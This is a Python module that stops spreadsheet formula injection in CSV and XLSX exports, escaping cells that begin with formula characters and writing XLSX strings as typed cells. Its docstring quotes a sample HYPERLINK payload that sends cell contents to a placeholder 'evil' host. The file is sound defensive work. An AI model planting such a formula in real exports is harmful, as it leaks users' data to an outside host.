"""Spreadsheet cells that cannot run as formulas (OWASP's CSV-injection rules).

Text in the log comes from people and from imported files: a customer named
``=HYPERLINK("http://evil/?"&A1,"click")`` must reach a spreadsheet as text. In CSV a cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
apostrophe, which spreadsheet programs take as "this is text" and do not show. XLSX needs no
such mark: its cells are typed, so strings are written as string cells (never through
xlsxwriter's ``write``, which turns ``=…`` into a formula) and keep their exact value.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")


def csv_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: text that would start a formula is marked."""
    if value.__class__ is str and value[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A whole row through :func:`csv_cell` (inlined: exports write millions of cells)."""
    return [("'" + v) if v.__class__ is str and v[:1] in FORMULA_STARTS else v for v in values]


def write_xlsx_row(sheet: Any, row: int, values: Iterable[Any], cell_format: Any = None) -> None:
    """Write one row with typed cells: numbers as numbers, everything else as a string."""
    for column, value in enumerate(values):
        if value is None or value == "":
            continue
        if isinstance(value, bool):
            sheet.write_number(row, column, int(value), cell_format)
        elif isinstance(value, int | float):
            sheet.write_number(row, column, value, cell_format)
        else:
            sheet.write_string(row, column, str(value), cell_format)
